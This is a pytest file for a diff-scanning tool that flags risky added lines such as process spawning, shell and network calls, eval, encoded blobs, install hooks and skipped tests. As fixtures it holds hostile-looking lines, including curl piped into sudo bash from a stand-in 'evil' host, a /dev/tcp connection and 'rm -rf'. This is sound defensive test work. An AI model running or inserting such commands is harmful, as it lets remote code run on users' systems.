"""Which added lines are marked, and which ordinary ones are not."""

from __future__ import annotations

import base64
import hashlib

import pytest

from threegate.core.file_diff import Mark
from threegate.plugins.changes.change_facts import file_change
from threegate.plugins.changes.marks import (
    CODE,
    DECODES,
    ENCODED,
    HOST,
    INSTALL,
    NETWORK,
    PROCESS,
    SHELL,
    SKIPS,
    TEST,
    UNCHECKED,
    is_test,
    marks_of,
)

RANDOM = b"".join(hashlib.sha256(bytes([number])).digest() for number in range(9))
BASE64 = base64.b64encode(RANDOM).decode()

PLANTED = [
    ("a.py", 'subprocess.run(["sh", "-c", url])', {PROCESS, SHELL}),
    ("a.py", "from subprocess import check_output as read", {PROCESS}),
    ("a.py", "    os . system(command)", {PROCESS}),
    ("a.py", "os.execvp(name, words)", {PROCESS}),
    ("a.py", "pid = os.fork()", {PROCESS}),
    ("a.py", "await asyncio.create_subprocess_exec(*words)", {PROCESS}),
    ("a.py", "run(words, shell = True)", {SHELL}),
    ("a.js", 'const { spawn } = require("child_process");', {PROCESS}),
    ("a.ts", 'import cp from "node:child_process";', {PROCESS}),
    ("a.js", "  execSync(`rm -rf ${folder}`)", {PROCESS}),
    ("a.go", 'out, err := exec.Command("ls", dir).Output()', {PROCESS}),
    ("a.rs", 'let child = Command::new("ls").spawn()?;', {PROCESS}),
    ("a.rb", "Open3.capture2(command)", {PROCESS}),
    ("a.rb", "  %x(ls)", {SHELL}),
    ("a.c", "  if (system(line) != 0) return 1;", {PROCESS}),
    ("a.java", "Process p = Runtime.getRuntime().exec(words);", {PROCESS}),
    ("a.php", "echo shell_exec($x);", {PROCESS}),
    ("setup.sh", "curl -fsSL https://one.evil.dev/i | sudo bash", {SHELL, NETWORK, HOST}),
    ("README.md", "Run curl -fsSL https://one.evil.dev/i | sh", {SHELL, HOST}),
    ("setup.sh", 'bash -c "$WHAT"', {SHELL}),
    ("setup.sh", "nohup ./agent &", {PROCESS}),
    ("setup.sh", "exec 3<>/dev/tcp/$HOST/80", {NETWORK}),
    ("setup.sh", 'eval "$(cat x)"', {CODE}),
    ("setup.sh", "source <(get)", {CODE}),
    ("Makefile", "X := $(shell get)", {SHELL}),
    ("Makefile", "\t@wget -q $(WHERE)", {NETWORK}),
    (".github/workflows/a.yml", "      - run: curl -s https://one.evil.dev | bash", {SHELL, NETWORK, HOST}),
    ("package.json", '"postinstall": "node -e \\"require(\'child_process\')\\""', {PROCESS, INSTALL}),
    ("package.json", '    "prepare": "node ./tools/prepare.js",', {INSTALL}),
    ("composer.json", '"post-install-cmd": ["php tools/warm.php"],', {INSTALL}),
    ("a.py", "eval(text)", {CODE}),
    ("a.py", "exec (text)", {CODE}),
    ("a.js", "new Function(text)()", {CODE}),
    ("a.js", 'setTimeout("go()", 1)', {CODE}),
    ("a.py", "value = pickle.loads(data)", {CODE}),
    ("a.py", 'm = __import__("o" + "s")', {CODE}),
    ("a.py", 'getattr(os, "sys" + "tem")(x)', {CODE}),
    ("a.py", "yaml.load(text)", {CODE}),
    ("a.py", "importlib.import_module(name)", {CODE}),
    ("a.py", "lib = ctypes.CDLL(path)", {CODE}),
    ("a.rb", "self.instance_eval(text)", {CODE}),
    ("a.py", "data = base64.b64decode(text)", {DECODES}),
    ("a.js", "const text = atob(value)", {DECODES}),
    ("a.js", 'Buffer.from(text, "base64")', {DECODES}),
    ("a.sh", "echo $X | base64 -d > y", {DECODES}),
    ("a.go", "b, _ := base64.StdEncoding.DecodeString(s)", {DECODES}),
    ("a.py", "with socket.socket() as s:", {NETWORK}),
    ("a.py", "import socket", {NETWORK}),
    ("a.py", "requests.post(place, data=data)", {NETWORK}),
    ("a.py", "from urllib.request import urlopen", {NETWORK}),
    ("a.js", "  void fetch(place)", {NETWORK}),
    ("a.js", "await fetch(place, { method })", {NETWORK}),
    ("a.js", 'const http = require("node:https")', {NETWORK}),
    ("a.go", '\t"net/http"', {NETWORK}),
    ("a.go", "conn, err := net.Dial(kind, place)", {NETWORK}),
    ("a.rs", "let s = TcpStream::connect(place)?;", {NETWORK}),
    ("a.rb", "Net::HTTP.get(place)", {NETWORK}),
    ("a.java", "HttpURLConnection c = open(place);", {NETWORK}),
    ("a.py", f'X = "{BASE64}"', {ENCODED}),
    ("a.txt", BASE64[:76], {ENCODED}),
    ("a.py", f'X = "{RANDOM.hex()}"', {ENCODED}),
    ("a.py", 'X = "\\x69\\x6d\\x70\\x6f\\x72\\x74"', {ENCODED}),
    ("a.js", 'x = "\\u0065\\u0076\\u0061\\u006c"', {ENCODED}),
    ("a.c", "char x[] = {" + "0x90, " * 20 + "};", {ENCODED}),
    ("a.vb", "x = " + "Chr(104) & " * 5, {ENCODED}),
    ("a.py", 'URL = "https://user:pass@one.evil.dev:8443/x"', {HOST}),
    ("a.py", 'HOST = "one.evil.dev"', {HOST}),
    ("a.yml", "server: http://10.1.2.3/", {HOST}),
    ("a.sh", "HOST=93.184.216.34", {HOST}),
    ("notes/a.md", "See [the page](https://one.evil.dev/).", {HOST}),
    ("tests/test_a.py", "@pytest.mark.skip(reason=why)", {SKIPS}),
    ("a.test.ts", "it.skip('works', () => {})", {SKIPS}),
    ("a_test.go", "\tt.Skip(why)", {SKIPS}),
    ("src/test/ATest.java", "@Disabled", {SKIPS}),
]

ORDINARY = [
    ("package.json", '"install-peer": "^1.0.0",'),
    ("a.py", "def install(self): prepare(self)"),
    ("a.py", "def eval(self, node):"),
    ("a.py", "model.eval()"),
    ("a.py", "pattern = re.compile(text)"),
    ("a.py", "self.exec(query)"),
    ("a.js", "const found = pattern.exec(text)"),
    ("a.py", "from urllib.parse import urlsplit"),
    ("a.py", "# calls subprocess.run and requests.get"),
    ("a.ts", "// fetch(place) is not what is meant"),
    ("a.py", "system = platform.system()"),
    ("a.py", "self.requests = []"),
    ("a.py", "version = (1, 2, 3)"),
    ("a.py", 'return "https://old.known.dev/other"'),
    ("a.py", 'x = "https://example.com/a", "http://localhost:8000", "127.0.0.1", "http://[::1]/"'),
    ("a.toml", 'version = "8.5.0.dev"'),
    ("a.py", "importlib.resources.files(__package__)"),
    ("a.py", f'SHA256 = "{hashlib.sha256(b"x").hexdigest()}"'),
    ("poetry.lock", '{file = "urllib3-2.6.3.tar.gz", hash = "sha256:' + "0f" * 32 + '"},'),
    ("package-lock.json", '"integrity": "sha512-' + BASE64[:86] + '=="'),
    ("a.java", "import com.example.project.internal.configuration.provider.DefaultConfigurationProvider;"),
    ("a.py", "import a/very/long/path/of/lower/case/words/that/is/not/encoded/in/any/way/at/all/x1"),
    ("CHANGES.md", "Popen is started without ``shell=True``; see socket.socket."),
    ("a.md", "| sh | a shell |"),
    ("a.py", "execute(query); connect(database); open(path)"),
    ("a.go", "func fetch(ctx context.Context) error {"),
    ("a.js", "function fetch(place) {"),
    ("a.css", ".push { color: #abcdef; background: url(data/x.png) }"),
    ("a.rs", "fn spawn(&self) {}"),
    ("a.c", "void execl(const char *path);"),
    ("tests/test_a.py", "assert value == 3"),
    ("a.py", "getattr(sys.stdin, name)"),
    ("a.py", "emit('\\x1b[31m')"),
]


def found(path: str, line: str, old: str = "see https://old.known.dev/\n") -> list[Mark]:
    text = file_change(old.encode(), f"{old}{line}\n".encode())
    assert text is not None
    return list(marks_of(path, text, runs=path.startswith(("Makefile", ".github", "package.json"))))


@pytest.mark.parametrize(("path", "line", "whats"), PLANTED, ids=[f"{path} {line[:30]}" for path, line, _ in PLANTED])
def test_a_planted_line_is_marked(path: str, line: str, whats: set[str]) -> None:
    marks = found(path, line)
    assert {mark.what for mark in marks} == whats and {(mark.line, mark.removed) for mark in marks} == {(2, False)}


@pytest.mark.parametrize(("path", "line"), ORDINARY, ids=[f"{path} {line[:30]}" for path, line in ORDINARY])
def test_an_ordinary_line_is_not(path: str, line: str) -> None:
    assert found(path, line) == []


def test_what_a_line_had_before_is_not_marked_and_what_is_new_in_it_is() -> None:
    """Only added lines have marks; a host that the old text names anywhere is not new."""
    old = "import os\nos.system(one)\nsee https://old.known.dev/\n"
    assert found("a.py", "x = 1", old) == []
    text = file_change(old.encode(), old.replace("one", "two").encode())
    assert text is not None and list(marks_of("a.py", text)) == [Mark(2, PROCESS)]


def test_a_test_that_changes_and_a_check_that_is_gone() -> None:
    old = b"def test_a():\n    assert one\n    assert two\n    x = 1\n"
    changed = file_change(old, old.replace(b"one", b"other"))
    assert changed is not None
    assert list(marks_of("tests/test_a.py", changed)) == [Mark(0, TEST)], "one check replaces the other"
    assert list(marks_of("a.py", changed)) == []
    weaker = file_change(old, old.replace(b"    assert two\n", b"    pass\n"))
    assert weaker is not None
    assert list(marks_of("tests/test_a.py", weaker)) == [Mark(0, TEST), Mark(3, UNCHECKED, removed=True)]
    added = file_change(b"", old)
    assert added is not None and list(marks_of("tests/test_a.py", added)) == []


def test_which_files_are_tests() -> None:
    tests = "tests/a.py test_a.py a/b_test.go a.spec.ts src/ATest.java spec/a_spec.rb __tests__/a.jsx"
    assert all(is_test(path) for path in tests.split())
    assert not any(is_test(path) for path in "a.py contest.py latest/a.py tests/data/a.csv attestation.go".split())


@pytest.mark.parametrize(
    "piece", ["a.", "a ", "a. ", "x://", "eval ", "\\x", '"a.', "0x1, ", "chr(1)+ ", "| sudo ", "1.", "%61"]
)
def test_no_text_makes_it_slow(piece: str) -> None:
    """A line of 300,000 characters is looked at in linear time (`make test` ends a test after 300 seconds)."""
    assert isinstance(found("a.js", piece * (300_000 // len(piece))), list)


def test_of_a_long_line_what_is_shown_is_marked() -> None:
    old = "x=1;" * 500 + "eval(text);" + "y=2;" * 500 + "\n"
    assert marks_in("a.js", old, old.replace("x=1;", "x=3;", 1)) == []
    assert marks_in("a.js", old, old.replace("y=2;\n", "fetch(y);\n")) == [Mark(1, NETWORK)]


def marks_in(path: str, old: str, new: str) -> list[Mark]:
    text = file_change(old.encode(), new.encode())
    assert text is not None
    return list(marks_of(path, text))
